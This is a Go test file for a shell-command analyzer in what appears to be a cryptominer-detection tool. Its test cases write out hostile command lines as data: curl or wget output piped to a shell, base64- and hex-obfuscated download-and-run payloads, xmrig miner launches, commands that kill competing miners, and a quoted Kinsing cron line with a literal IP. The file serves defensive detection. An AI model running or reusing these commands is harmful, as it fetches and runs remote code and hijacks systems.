package shellscan

import (
	"encoding/base64"
	"reflect"
	"sort"
	"strings"
	"testing"

	"github.com/minerguard/minerguard/internal/intel"
)

func analyzer(t testing.TB) *Analyzer {
	t.Helper()
	a, err := New(intel.MustLoad())
	if err != nil {
		t.Fatal(err)
	}
	return a
}

func kinds(r Result) []string {
	m := map[string]bool{}
	for _, x := range r.Reasons {
		k := string(x.Kind)
		if x.Weak {
			k += "(weak)"
		}
		m[k] = true
	}
	var out []string
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func TestAnalyze(t *testing.T) {
	a := analyzer(t)
	tests := []struct {
		name  string
		text  string
		kinds []string
		paths []string
	}{
		// Public reports: Kinsing's cron line.
		{"kinsing", `wget -q -O - http://195.3.146.118/lh.sh | sh > /dev/null 2>&1`, []string{"download_exec", "ip_url"}, nil},
		{"curl pipe bash", `curl -fsSL http://example.org/x.sh | bash`, []string{"download_exec"}, nil},
		{"wget O- bash", `(wget -O- https://example.org/i || curl -s https://example.org/i) | bash -s`, []string{"download_exec"}, nil},
		{"curl to file then run", `curl -fsSL https://example.org/x -o /tmp/x; chmod +x /tmp/x; /tmp/x`, []string{"download_exec", "temp_exec"}, []string{"/tmp/x"}},
		{"wget remote name then sh", `cd /var/tmp && wget http://example.org/a.sh && sh a.sh`, []string{"download_exec", "temp_exec"}, []string{"/var/tmp/a.sh"}},
		{"8220 bash -c", `bash -c "$(curl -fsSL http://198.51.100.7:8220/mr.sh)"`, []string{"download_exec", "ip_url"}, nil},
		{"eval wget", `eval "$(wget -qO- https://example.org/s)"`, []string{"download_exec"}, nil},
		{"process substitution", `bash <(curl -s https://example.org/s)`, []string{"download_exec"}, nil},
		{"python one-liner", `python3 -c "import urllib.request as u;exec(u.urlopen('http://example.org/p').read())"`, []string{"download_exec"}, nil},
		{"perl one-liner", `perl -e 'use LWP::Simple; system(get("https://example.org/p"))'`, []string{"download_exec"}, nil},
		{"renamed downloader", `/usr/bin/.../wdl -q -O- http://example.org/z | sh`, []string{"download_exec", "hidden_exec"}, []string{"/usr/bin/.../wdl"}},
		{"renamed word", `cd1 -fsSL https://example.org/z | bash`, []string{"download_exec"}, nil},
		{"renamed downloader not piped", `cd1 -fsSL https://example.org/z`, nil, nil},
		{"base64 to bash", `echo ` + b64("curl -s http://203.0.113.9/a | sh") + ` | base64 -d | bash`, []string{"download_exec", "encoded", "ip_url"}, nil},
		{"base64 here-string", `bash -c "$(base64 -d <<< ` + b64("/tmp/.x/xmrig -o stratum+tcp://pool.example:3333") + `)"`, []string{"encoded", "miner", "temp_exec"}, []string{"/tmp/.x/xmrig"}},
		{"nested base64", `echo ` + b64("echo "+b64("wget -q -O- http://203.0.113.9/b | sh")+" | base64 --decode | sh") + ` | base64 -d | sh`, []string{"download_exec", "encoded", "ip_url"}, nil},
		{"base64 harmless not run", `echo aGVsbG8gd29ybGQ= | base64 -d`, nil, nil},
		{"printf hex", `printf '\x63\x75\x72\x6c\x20\x68\x74\x74\x70\x3a\x2f\x2f\x65\x2e\x6f\x72\x67\x2f\x78\x7c\x73\x68' | sh`, []string{"download_exec", "encoded"}, nil},
		{"python b64", `python -c "import base64;exec(base64.b64decode('` + b64("import os;os.system('/dev/shm/.k/run')") + `'))"`, []string{"encoded", "temp_exec"}, []string{"/dev/shm/.k/run"}},
		{"temp exec", `/tmp/.x/kworkerds &`, []string{"miner", "temp_exec"}, []string{"/tmp/.x/kworkerds"}},
		{"cd then relative", `cd /tmp/.ice && ./run`, []string{"temp_exec"}, []string{"/tmp/.ice/run"}},
		{"hidden exec", `nohup /root/.cache/.sys/upd >/dev/null 2>&1 &`, []string{"hidden_exec"}, []string{"/root/.cache/.sys/upd"}},
		{"acme.sh allowed", `"/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null`, nil, []string{"/root/.acme.sh/acme.sh"}},
		{"miner by name", `xmrig --donate-level 1 -o pool.example:3333`, []string{"miner"}, nil},
		{"stratum url", `/opt/app/run -o stratum+tcp://203.0.113.5:3333 -u x`, []string{"miner"}, []string{"/opt/app/run"}},
		{"kill competition", `ps aux | grep -v grep | grep kdevtmpfsi | awk '{print $2}' | xargs -I % kill -9 %`, []string{"kill_competition"}, nil},
		{"pkill miner", `pkill -f xmrig`, []string{"kill_competition"}, nil},
		{"kill subst", `kill -9 $(pgrep -f minerd)`, []string{"kill_competition"}, nil},
		{"kill by port", `netstat -anp | grep :3333 | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs kill -9`, []string{"kill_competition"}, nil},
		{"pkill nginx fine", `pkill -HUP nginx`, nil, nil},
		{"chattr", `chattr -ia /etc/crontab /var/spool/cron/crontabs/root`, []string{"attr_change"}, []string{"/etc/crontab", "/var/spool/cron/crontabs/root"}},
		{"loop", "while true; do\n  curl -s http://example.org/u | sh\n  sleep 300\ndone", []string{"download_exec", "loop"}, nil},
		{"private ip", `curl -fsS http://10.0.0.5/ping`, []string{"ip_url(weak)"}, nil},
		{"loopback", `curl -fsS http://127.0.0.1:8080/health`, nil, nil},
		{"backup ping", `curl -fsS -m 10 --retry 5 -o /dev/null https://backup.example.com/ping`, nil, nil},
		{"debian popcon", `test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }`, nil, nil},
		{"flock lock file", `flock -n /tmp/job.lock /usr/local/bin/job`, nil, []string{"/usr/local/bin/job"}},
		{"sudo wrapper", `sudo -u www-data nohup /var/tmp/php-fpm -c x`, []string{"temp_exec"}, []string{"/var/tmp/php-fpm"}},
		{"comment", `# curl http://1.2.3.4/x | sh`, nil, nil},
		{"heredoc to bash", "bash <<EOF\nwget -q -O- http://example.org/z | sh\nEOF\n", []string{"download_exec"}, nil},
		{"source dotfile", `[ -f /home/bob/.bash_aliases ] && . /home/bob/.bash_aliases`, nil, []string{"/home/bob/.bash_aliases"}},
		{"source hidden dir", `. /root/.x/env`, []string{"hidden_exec"}, []string{"/root/.x/env"}},
		{"go build temp allowed", `/tmp/go-build123/b001/exe/tool`, nil, []string{"/tmp/go-build123/b001/exe/tool"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := a.Analyze(tc.text)
			if got := kinds(r); !reflect.DeepEqual(got, tc.kinds) {
				t.Errorf("kinds %v want %v\n%+v", got, tc.kinds, r.Reasons)
			}
			if !reflect.DeepEqual(r.Paths, tc.paths) {
				t.Errorf("paths %v want %v", r.Paths, tc.paths)
			}
		})
	}
}

func TestAnalyzeDecodedAndLines(t *testing.T) {
	a := analyzer(t)
	inner := "chattr -i /etc/crontab; curl -s http://203.0.113.9/a | sh"
	text := "# header\nPATH=/bin\necho " + b64(inner) + " | base64 -d | bash\n"
	r := a.Analyze(text)
	var enc *Reason
	for i := range r.Reasons {
		if r.Reasons[i].Line != 3 {
			t.Errorf("reason %+v not on line 3", r.Reasons[i])
		}
		if r.Reasons[i].Kind == Encoded {
			enc = &r.Reasons[i]
		}
	}
	if enc == nil || enc.Decoded != inner {
		t.Fatalf("encoded reason %+v", enc)
	}
	if !reflect.DeepEqual(r.URLs, []string{"http://203.0.113.9/a"}) {
		t.Errorf("urls %v", r.URLs)
	}
	// Four levels: the fourth is not decoded.
	p := "wget -q -O- http://203.0.113.9/deep | sh"
	for i := 0; i < 4; i++ {
		p = "echo " + b64(p) + " | base64 -d | sh"
	}
	r = a.Analyze(p)
	if r.Has(DownloadExec) || !r.Has(Encoded) {
		t.Errorf("depth bound: %+v", r.Reasons)
	}
}

func TestLex(t *testing.T) {
	cmds := lex("a 'b c' \"d $(e f) g\" x\\ y | h 2>&1 >/tmp/o; i <<X\nbody $(no)\nX\nj `k`")
	var got []string
	for _, c := range cmds {
		got = append(got, strings.Join(c.words, ",")+"|"+c.op)
	}
	want := []string{"a,b c,d $(e f) g,x y||", "h|;", "i|\n", "j,`k`|"}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("%q", got)
	}
	if cmds[0].subs[0] != "e f" || cmds[1].redirs[0].target != "/tmp/o" || cmds[2].redirs[0].target != "body $(no)\n" || cmds[3].line != 4 {
		t.Fatalf("%+v", cmds)
	}
}

func TestConfigLoads(t *testing.T) {
	c, err := LoadConfig(intel.MustLoad())
	if err != nil {
		t.Fatal(err)
	}
	if len(c.Shells) == 0 || len(c.Decoders) == 0 {
		t.Fatal("empty config")
	}
}

func FuzzAnalyze(f *testing.F) {
	a := analyzer(f)
	for _, s := range []string{
		`wget -q -O - http://195.3.146.118/lh.sh | sh`,
		`bash -c "$(curl -fsSL http://x:8220/a)"`,
		"echo " + b64("curl x|sh") + " | base64 -d | bash",
		"while :; do $(`a` <(b) >(c)); done <<E\nx\nE",
		"printf '\\x41\\101' $'\\x42\\0' \"a\\`b\"",
		"a\\\n'b",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		r := a.Analyze(s)
		for _, x := range r.Reasons {
			if x.Kind == "" || x.Line < 1 {
				t.Fatalf("bad reason %+v", x)
			}
		}
		for _, p := range r.Paths {
			if !strings.HasPrefix(p, "/") {
				t.Fatalf("relative path %q", p)
			}
		}
	})
}
